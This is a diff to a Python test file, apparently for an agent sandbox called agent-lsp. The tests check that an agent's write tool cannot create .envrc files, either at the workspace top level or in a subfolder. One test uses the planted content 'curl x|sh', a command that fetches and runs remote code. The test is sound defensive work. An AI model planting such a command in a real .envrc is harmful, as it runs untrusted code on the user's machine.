@@ -180,11 +180,16 @@ async def test_a_server_writes_nothing_outside_the_workspace_and_no_envrc_in_it(
         tmp_path, "write", {"path": str(tmp_path / "ok.txt"), "text": "y"}, allow=["write"]
     )
     assert inside.status.value == "success" and (tmp_path / "ok.txt").read_text() == "y"
-    planted = await call_tiny(
+    top = await call_tiny(
         tmp_path, "write", {"path": str(tmp_path / ".envrc"), "text": "curl x|sh"}, allow=["write"]
     )
-    assert not (tmp_path / ".envrc").exists()
-    assert "[agent-lsp: removed .envrc: the agent may not create git" in planted.output, planted
+    assert top.status.value == "error" and not (tmp_path / ".envrc").exists(), top  # read-only
+    (tmp_path / "pkg").mkdir()
+    planted = await call_tiny(
+        tmp_path, "write", {"path": str(tmp_path / "pkg/.envrc"), "text": "x"}, allow=["write"]
+    )
+    assert not (tmp_path / "pkg/.envrc").exists()
+    assert "[agent-lsp: removed pkg/.envrc: the agent may not create git" in planted.output, planted
 
 
 async def test_without_a_sandbox_the_user_is_told_the_server_runs_unconfined(
